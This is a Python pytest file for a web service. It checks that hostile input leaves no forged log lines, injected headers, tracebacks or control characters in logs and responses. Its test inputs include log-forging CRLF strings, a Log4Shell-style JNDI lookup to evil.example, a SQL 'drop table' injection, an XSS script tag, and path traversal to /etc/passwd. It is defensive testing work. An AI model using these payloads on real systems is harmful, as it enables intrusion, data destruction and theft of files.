"""Words, names, ids and headers that want to be lines, commands or paths of ours: they stay what they are."""

import json
import logging
import re
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

from server.observe import configure_logging
from tests.fakes.house import OpenHouse, StudioProcess, studio_process
from tests.fakes.raw_http import RawAnswer, request, sent
from tests.fakes.visitor import Visitor

FORGED = "2026-01-01T00:00:00Z [error    ] forged"
HOSTILE = (
    f"a\r\n{FORGED}",
    f"a\n{FORGED}",
    f"a\r{FORGED}",
    "a\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "a\x00b",
    "a\u2028b\u2029c\x85d\x0be\x0cf",
    "\u202egnp.exe\u2066",
    "%0d%0aSet-Cookie: a=b",
    "${jndi:ldap://evil.example/a}",
    "{0.__class__} %s %n {{7*7}}",
    "'; drop table sessions; --",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "a" * 4000,
    "\ufeff\u200b",
)
UNSEEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
IDS = [repr(each)[:30] for each in HOSTILE]


# -- one line stays one line -------------------------------------------------------------------


@pytest.fixture
def logs(tmp_path: Path) -> Iterator[Path]:
    root = logging.getLogger()
    level, handlers = root.level, root.handlers[:]
    root.handlers = []  # basicConfig would close pytest's own
    configure_logging(tmp_path)
    yield tmp_path / "api.log"
    for handler in root.handlers:
        handler.close()
    root.handlers, root.level = handlers, level


@pytest.mark.parametrize("words", HOSTILE, ids=IDS)
def test_whatever_is_logged_is_one_readable_line_and_one_of_json(
    logs: Path, words: str, capfd: pytest.CaptureFixture[str]
):
    logging.getLogger("reelroom.test").info("told %s", words, extra={"reason": words})
    for handler in logging.getLogger().handlers:
        handler.flush()
    for whole in (logs.read_text(), capfd.readouterr().err):
        assert len(whole.splitlines()) <= 1 or not whole
        assert UNSEEN.search(whole) is None


def _fails(words: str) -> None:
    raise LookupError(words)


def test_an_errors_own_words_forge_no_line(logs: Path):
    try:
        _fails(f"a\n{FORGED}\x1b[2J")
    except LookupError:
        logging.getLogger("reelroom.test").exception("a bug")
    first, *rest = logs.read_text().splitlines()
    assert "a bug" in first
    assert all(line.startswith("  ") for line in rest)
    assert UNSEEN.search(logs.read_text()) is None


# -- through the doors of a real process -------------------------------------------------------


@pytest.fixture(scope="module")
async def process(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[StudioProcess]:
    async with studio_process(tmp_path_factory.mktemp("process")) as opened:
        yield opened


def told(process: StudioProcess, folder: str) -> str:
    return (process._folder / folder).read_text()


@pytest.mark.parametrize("words", HOSTILE, ids=IDS)
async def test_hostile_words_leave_no_trace_in_a_log(process: StudioProcess, words: str):
    number = HOSTILE.index(words)
    user = f"ada-{number}"
    async with Visitor.connected(process.url, process.token(user)) as ada:
        await ada.open(campaignId=f"c{number}{words}"[:128])
        assert (await ada.ask(f"hello {words}"))[-1]["data"]["outcome"] == "answered"
        await ada.command("session.open", sessionId=words)
        await ada.command(words[:60], sessionId=ada.session_id)
    token = f"Authorization: Bearer {process.token(user)}"
    body = json.dumps({"prompt": words, "model": words, "campaignId": words}).encode()
    json_of = "Content-Type: application/json"
    plain = words.replace("\r", "").replace("\n", "").replace("\0", "")
    for each in (
        request("POST", "/api/video/generate", token, json_of, body=body),
        request("POST", "/api/video/quote", token, json_of, f"Idempotency-Key: {plain}", body=body),
        request("GET", f"/api/sessions?campaignId={quote(words)}", token, f"User-Agent: {plain}"),
        request("GET", f"/api/sessions/{quote(words, safe='')}/entries", token),
        request("GET", f"/media/{quote(words, safe='')}.png", token),
        request("GET", "/api/sessions", f"Authorization: Bearer {plain}", f"X-Request-Id: {plain}"),
    ):
        answer = await sent(process.url, each)
        assert answer.status in {200, 400, 401, 404, 413, 422}
        assert not any(UNSEEN.search("".join(values)) for values in answer.headers.values())
        assert "set-cookie" not in answer.headers
    readable = told(process, "logs/api.log")
    assert all(re.match(r"\d{4}-\d\d-\d\dT.* \[|  ", line) for line in readable.splitlines())
    assert all(json.loads(line) for line in told(process, "stderr.log").splitlines())
    for log in (readable, told(process, "stderr.log")):
        assert "forged" not in log
        assert "Traceback" not in log
        assert "jndi" not in log
        assert UNSEEN.search(log) is None


# -- ids in paths ------------------------------------------------------------------------------


def routes_with_ids(studio: OpenHouse) -> list[tuple[str, str]]:
    found = {
        (route.method, route.resource.canonical)
        for route in studio.house.app.router.routes()
        if route.resource is not None and "{" in route.resource.canonical
    }
    return sorted((method, path) for method, path in found if method != "HEAD")


async def asked(studio: OpenHouse, method: str, path: str) -> RawAnswer:
    token = f"Authorization: Bearer {studio.token()}"
    json_of = "Content-Type: application/json"
    body = b"" if method == "GET" else b'{"status": "approved"}'
    return await sent(studio.url, request(method, path, token, json_of, body=body))


@pytest.mark.parametrize("words", HOSTILE, ids=IDS)
async def test_an_id_that_is_none_is_not_found(
    studio: OpenHouse, words: str, caplog: pytest.LogCaptureFixture
):
    for method, path in routes_with_ids(studio):
        target = re.sub(r"\{[^}]*\}", quote(words, safe=""), path)
        answer = await asked(studio, method, target)
        is_campaign = "/campaigns/" in path and len(words) <= 128
        assert answer.status in ({200, 404} if is_campaign else {400, 404, 413}), (method, path)
        if answer.status != 200:
            assert answer.error["code"] in {"not_found", "invalid_payload", "too_large"}
        assert b"Traceback" not in answer.body
    assert [each.getMessage() for each in caplog.records if each.levelno >= logging.WARNING] == []


QUERIES = (
    "after=-1",
    "after=1e5",
    "after=9999999999999",
    "after=%00",
    "after=٣",
    "after=1&after=2",
    "after[]=1",
    "after=0x1",
    "after=" + "9" * 5000,
    "campaignId=" + "a" * 5000,
    "campaignId=%ff%fe",
    "campaignId=%ED%A0%80",
    "%00=%00",
    "&&&=&=&",
    "?" * 100,
    "&".join(f"a{n}={n}" for n in range(900)),
)


@pytest.mark.parametrize("query", QUERIES, ids=lambda query: query[:24])
async def test_a_query_that_is_none_is_no_bug(
    studio: OpenHouse, query: str, caplog: pytest.LogCaptureFixture
):
    async with studio.visitor() as ada:
        await ada.open()
        paths = [
            f"/api/sessions/{ada.session_id}/entries",
            "/api/sessions",
            "/api/video/models",
            "/media/a.png",
            "/readyz",
        ]
    for path in paths:
        answer = await asked(studio, "GET", f"{path}?{query}")
        assert answer.status in {200, 400, 404, 413}
        assert b"Traceback" not in answer.body
    assert [each.getMessage() for each in caplog.records if each.levelno >= logging.WARNING] == []
